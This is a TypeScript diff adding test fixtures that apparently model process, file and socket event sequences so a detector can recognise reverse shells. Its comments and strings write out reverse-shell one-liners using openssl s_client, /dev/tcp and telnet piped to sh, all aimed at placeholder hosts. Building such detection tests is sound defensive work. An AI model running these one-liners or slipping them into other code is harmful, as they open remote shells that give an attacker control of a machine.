@@ -26,6 +26,9 @@ function runs(
   };
 }
 
+const opens = (process_key: number, inode: number, access: "read" | "write"): Samples => ({
+  ...{ event: "file_open", process_key, inode, access, mode: 0o010644 },
+});
 const forks = (parent_key: number, child_key: number): Samples => ({
   ...{ event: "process_fork", process_key: parent_key, parent_key, child_key },
   child_pid: 100 + child_key,
@@ -142,6 +145,26 @@ export const fires: Sequences = [
     runs(4, "openssl s_client -quiet -connect h:4444", [from, fifo, log]),
     connects(4),
     runs(3, "sh", [fifo, from, from]),
+  ],
+  // sh <in >out 2>&1 & and a program that opens both, and copies.
+  [
+    shell,
+    opens(3, 30, "read"),
+    opens(3, 31, "write"),
+    runs(3, "sh", [fifo, ["pipe", 31], ["pipe", 31]]),
+    python,
+    connects(2),
+    opens(2, 31, "read"),
+    opens(2, 30, "write"),
+  ],
+  // exec 3<>/dev/tcp/HOST/PORT; cat <&3 | while read -r line; do $line >&3; done
+  [
+    shell,
+    {
+      ...runs(2, "cat", [["inet_socket", 40], to, log]),
+      ...{ stdin_peer: peer, stdin_local: local },
+    } as Samples,
+    { ...runs(3, "id", [to, ["inet_socket", 40], log]), stdout_peer: peer } as Samples,
   ],
   // telnet HOST PORT | sh | telnet HOST PORT2
   [shell, runs(2, "telnet h 1", [none, to, log]), connects(2), runs(3, "sh", [to, from, log])],
